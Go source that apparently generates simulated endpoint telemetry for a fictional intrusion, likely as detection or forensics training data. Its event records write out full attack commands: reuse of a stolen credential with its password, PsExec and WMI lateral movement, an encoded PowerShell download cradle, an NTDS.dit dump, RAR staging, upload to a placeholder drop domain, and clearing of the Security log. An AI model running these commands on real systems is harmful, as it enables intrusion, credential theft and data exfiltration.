package story

import (
	"net/netip"
	"time"
)

const stolen = `BRIGHTWATER\svc_backup`

// inbound records a connection from another endpoint.
func (t *teller) inbound(p *Process, when time.Time, from *Endpoint, port uint16) {
	t.netconn(p, Netconn{
		Time: when, Protocol: TCP, Domain: from.DNS, Remote: netip.AddrPortFrom(from.Address, 49800),
		Local: netip.AddrPortFrom(p.Endpoint.Address, port),
	})
}

// spread tells how the intruder moves on: to the file server with PsExec, to the database server with WMI, to a domain
// controller with a scheduled task. It gives the footholds there.
func (t *teller) spread(f foothold, files, sql, dc *host) (onFiles, onSQL foothold) {
	shell := t.run(f.beacon, launch{Path: system32 + "cmd.exe", Cmd: `cmd.exe`, At: day(10, 18, 3), For: 3 * time.Hour})
	return t.psexec(shell, files), t.wmi(shell, sql, dc)
}

func (t *teller) psexec(shell *Process, to *host) foothold {
	t0 := day(10, 18, 5)
	use := t.run(shell, launch{Path: system32 + "net.exe", Cmd: `net  use \\SRV-FILE01\admin$ /user:BRIGHTWATER\svc_backup Winter2016!`, At: t0, For: 900 * time.Millisecond})
	t.connect(use, t0.Add(200*time.Millisecond), netip.AddrPortFrom(to.Address, 445).String(), to.DNS)
	tool := `c:\programdata\winhelp\psexec.exe`
	t.drop(shell, t0.Add(40*time.Second), tool)
	ps := t.run(shell, launch{Path: tool, Cmd: tool + ` \\SRV-FILE01 -accepteula -s -d c:\windows\temp\helpsvc.exe`, At: t0.Add(time.Minute), For: 9 * time.Second})
	t.connect(ps, t0.Add(61*time.Second), netip.AddrPortFrom(to.Address, 445).String(), to.DNS)
	t.inbound(to.kernel, t0.Add(61*time.Second), shell.Endpoint, 445)
	t.drop(to.kernel, t0.Add(62*time.Second), `c:\windows\psexesvc.exe`)
	t.drop(to.kernel, t0.Add(63*time.Second), `c:\windows\temp\helpsvc.exe`)
	t.registry(to.services, t0.Add(64*time.Second), KeyCreated, `\registry\machine\system\currentcontrolset\services\psexesvc`)
	svc := t.run(to.services, launch{Path: `c:\windows\psexesvc.exe`, Cmd: `C:\Windows\PSEXESVC.exe`, User: "SYSTEM", At: t0.Add(65 * time.Second), For: 7 * time.Second})
	return foothold{to, t.run(svc, launch{Path: `c:\windows\temp\helpsvc.exe`, Cmd: `"c:\windows\temp\helpsvc.exe"`, At: t0.Add(66 * time.Second)})}
}

func (t *teller) wmi(shell *Process, to, dc *host) foothold {
	t0 := day(10, 18, 40)
	w := t.run(shell, launch{Path: system32 + `wbem\wmic.exe`, Cmd: `wmic  /node:SRV-SQL01 /user:BRIGHTWATER\svc_backup process call create "cmd.exe /c powershell -nop -w hidden -enc ` + encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+beaconDomain+"/w')") + `"`, At: t0, For: 3 * time.Second})
	t.connect(w, t0.Add(300*time.Millisecond), netip.AddrPortFrom(to.Address, 135).String(), to.DNS)
	provider := t.run(to.svchost, launch{Path: system32 + `wbem\wmiprvse.exe`, Cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, User: "NETWORK SERVICE", At: t0.Add(time.Second), For: 12 * time.Minute})
	cmd := t.run(provider, launch{Path: system32 + "cmd.exe", Cmd: `cmd.exe /c powershell -nop -w hidden -enc ` + encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+beaconDomain+"/w')"), User: stolen, At: t0.Add(1500 * time.Millisecond), For: 5 * time.Minute})
	ps := t.run(cmd, launch{Path: powershell, Cmd: `powershell -nop -w hidden -enc ` + encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+beaconDomain+"/w')"), At: t0.Add(1800 * time.Millisecond), For: 4 * time.Minute})
	t.connect(ps, t0.Add(3*time.Second), beaconAddr, beaconDomain)
	t.drop(ps, t0.Add(6*time.Second), `c:\programdata\winhelp\helpsvc.exe`)
	beacon := t.run(ps, launch{Path: `c:\programdata\winhelp\helpsvc.exe`, Cmd: `c:\programdata\winhelp\helpsvc.exe`, At: t0.Add(8 * time.Second)})
	t.directory(shell, dc)
	return foothold{to, beacon}
}

// directory tells how the domain's database of accounts is copied from a domain controller.
func (t *teller) directory(shell *Process, dc *host) {
	t0 := day(10, 20, 14)
	tasks := t.run(shell, launch{Path: system32 + "schtasks.exe", Cmd: `schtasks  /create /s DC01 /u BRIGHTWATER\svc_backup /p Winter2016! /ru SYSTEM /sc once /st 20:16 /tn upd /tr "cmd /c c:\windows\temp\u.bat"`, At: t0, For: time.Second})
	t.connect(tasks, t0.Add(200*time.Millisecond), netip.AddrPortFrom(dc.Address, 445).String(), dc.DNS)
	t.inbound(dc.kernel, t0.Add(250*time.Millisecond), shell.Endpoint, 445)
	t.write(dc.kernel, t0.Add(500*time.Millisecond), `c:\windows\temp\u.bat`, "", TypeUnknown)
	t.write(dc.svchost, t0.Add(time.Second), system32+`tasks\upd`, "", TypeUnknown)
	engine := t.run(dc.svchost, launch{Path: system32 + "taskeng.exe", Cmd: `taskeng.exe {7E2F0E1A-0E70-4F1C-8C3B-2C0F5B1F2D11} S-1-5-18:NT AUTHORITY\System:Service:`, At: t0.Add(2 * time.Minute), For: 5 * time.Minute})
	cmd := t.run(engine, launch{Path: system32 + "cmd.exe", Cmd: `cmd /c c:\windows\temp\u.bat`, At: t0.Add(121 * time.Second), For: 4 * time.Minute})
	t.run(cmd, launch{Path: system32 + "vssadmin.exe", Cmd: `vssadmin  create shadow /for=C:`, At: t0.Add(122 * time.Second), For: 40 * time.Second})
	nt := t.run(cmd, launch{Path: system32 + "ntdsutil.exe", Cmd: `ntdsutil  "ac i ntds" "ifm" "create full c:\windows\temp\n" q q`, At: t0.Add(170 * time.Second), For: 70 * time.Second})
	t.write(nt, t0.Add(200*time.Second), `c:\windows\temp\n\active directory\ntds.dit`, "", TypeUnknown)
	t.write(nt, t0.Add(220*time.Second), `c:\windows\temp\n\registry\system`, "", TypeUnknown)
	t.touch(nt, dc.lsass, t0.Add(180*time.Second), ProcessHandle, readMemory, false)
}

// stage tells how archives are collected on the file server during the night.
func (t *teller) stage(f foothold) {
	rar := `c:\windows\temp\rar.exe`
	t.drop(f.beacon, day(11, 1, 50), rar)
	for i, folder := range []string{"finance", "contracts", "engineering", "hr"} {
		t0 := day(11, 2, 5).Add(time.Duration(i) * 37 * time.Minute)
		cmd := t.run(f.beacon, launch{Path: system32 + "cmd.exe", Cmd: `cmd.exe /c ` + rar + ` a -r -v100m -hpBl4h! c:\test\blah\~` + folder + `.rar d:\shares\` + folder, At: t0, For: 31 * time.Minute})
		p := t.run(cmd, launch{Path: rar, Cmd: rar + ` a -r -v100m -hpBl4h! c:\test\blah\~` + folder + `.rar d:\shares\` + folder, At: t0.Add(time.Second), For: 30 * time.Minute})
		for part := range 4 {
			t.write(p, t0.Add(time.Duration(2+7*part)*time.Minute), `c:\test\blah\~`+folder+`.part0`+string(rune('1'+part))+`.rar`, "", TypeRAR)
		}
	}
}

// carryOut tells the end: what was staged is copied to WIN-IA9NQ1GN8OI, through the share that was mounted there, and
// leaves the company.
func (t *teller) carryOut(h *host, shell *Process) {
	t0 := at("2016-11-11 21:00:12")
	copied := t.run(shell, launch{Path: system32 + "robocopy.exe", Cmd: `robocopy  y:\ c:\users\public\sync /mir /z`, At: t0, For: 6 * time.Minute})
	t.connect(copied, t0.Add(time.Second), "10.20.2.22:445", "srv-file01.brightwater.example")
	for i, folder := range []string{"finance", "contracts", "engineering", "hr"} {
		t.write(copied, t0.Add(time.Duration(20+80*i)*time.Second), `c:\users\public\sync\~`+folder+`.part01.rar`, "", TypeRAR)
	}
	up := t.run(shell, launch{Path: powershell, Cmd: `powershell  -nop -c "gci c:\users\public\sync\*.rar | % { (New-Object Net.WebClient).UploadFile('https://` + dropDomain + `/u',$_.FullName) }"`, At: t0.Add(7 * time.Minute), For: 19 * time.Minute})
	for i := range 8 {
		t.connect(up, t0.Add(7*time.Minute+time.Duration(2+130*i)*time.Second), dropAddr, dropDomain)
	}
	t.run(shell, launch{Path: system32 + "wevtutil.exe", Cmd: `wevtutil  cl Security`, At: t0.Add(28 * time.Minute), For: 300 * time.Millisecond})
}
